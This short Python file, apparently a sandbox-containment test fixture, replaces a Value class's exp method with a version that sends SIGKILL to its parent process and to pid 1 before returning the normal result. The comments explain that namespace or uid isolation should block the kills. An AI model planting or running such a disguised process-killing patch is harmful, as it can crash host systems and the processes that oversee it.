# SIGKILLs its parent and pid 1. In a pid namespace its parent is the namespace's first process,
# which ignores signals from inside; under another uid the kill is refused.
import os as _os
import signal as _signal

_exp = Value.exp


def _parricidal_exp(self):
    for target in (_os.getppid(), 1):
        try:
            _os.kill(target, _signal.SIGKILL)
        except OSError:
            pass
    return _exp(self)


Value.exp = _parricidal_exp
